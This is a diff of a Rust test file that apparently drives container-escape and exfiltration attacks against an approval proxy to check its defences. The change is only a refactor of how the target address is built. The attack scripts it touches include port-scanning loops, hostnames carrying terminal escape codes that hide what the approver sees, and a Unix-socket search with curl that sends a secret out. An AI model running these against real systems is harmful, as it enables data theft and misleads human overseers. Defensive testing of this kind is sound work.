@@ -1,9 +1,6 @@
 //! Somebody approves what a container asks for: with that it is to get what was shown, and no more.
 
-use std::net::IpAddr;
-
 use crate::row::{APPROVED, Counts, Meanwhile, ROW, Row, Trace};
-use crate::scene::Scene;
 
 pub(crate) const ROWS: &[Row] = &[
     Row {
@@ -12,7 +9,8 @@ pub(crate) const ROWS: &[Row] = &[
                  to names below it, to other ports and by other protocols",
         defence: "an approval is a rule for exactly the name and port that were shown; where the name leads, the proxy finds out itself",
         script: |scene| {
-            let (address, secret, waits) = (literal(scene), &scene.secret, until_approved());
+            let (address, secret, waits) =
+                (scene.target_in_urls(), &scene.secret, until_approved());
             format!(
                 "{waits}
                  for port in 80 8080 22; do
@@ -36,7 +34,8 @@ pub(crate) const ROWS: &[Row] = &[
                  direction, and 500 names that push out what was seen, while somebody approves whatever reads as the harmless name",
         defence: "only names of plain ASCII are shown, escaped, and an ID is a hash of all that its rule says",
         script: |scene| {
-            let (address, secret, waits) = (literal(scene), &scene.secret, until_approved());
+            let (address, secret, waits) =
+                (scene.target_in_urls(), &scene.secret, until_approved());
             let names = [
                 r"evil.test\033[2K\033[1A",
                 r"\r",
@@ -73,7 +72,7 @@ pub(crate) const ROWS: &[Row] = &[
         attack: "every Unix socket that the container can find, and where the host has the gateway's, asked to approve; then the secret is sent",
         defence: "the control socket is in a directory of the host's that no container has, for root's callers alone",
         script: |scene| {
-            let (address, secret) = (literal(scene), &scene.secret);
+            let (address, secret) = (scene.target_in_urls(), &scene.secret);
             format!(
                 "for socket in $(find / -path /proc -prune -o -type s -print 2> /dev/null) /run/boundary/*/control /proc/*/root/run/boundary/*/control; do
                    curl -s -m 2 --unix-socket $socket http://localhost/
@@ -92,12 +91,4 @@ fn until_approved() -> String {
     format!(
         "for attempt in $(seq 60); do curl -s -m 2 -o /dev/null http://{APPROVED}/ && break; sleep 0.3; done"
     )
-}
-
-/// The attacker's address as URLs have it.
-fn literal(scene: &Scene<'_>) -> String {
-    match scene.target() {
-        IpAddr::V4(address) => address.to_string(),
-        IpAddr::V6(address) => format!("[{address}]"),
-    }
 }
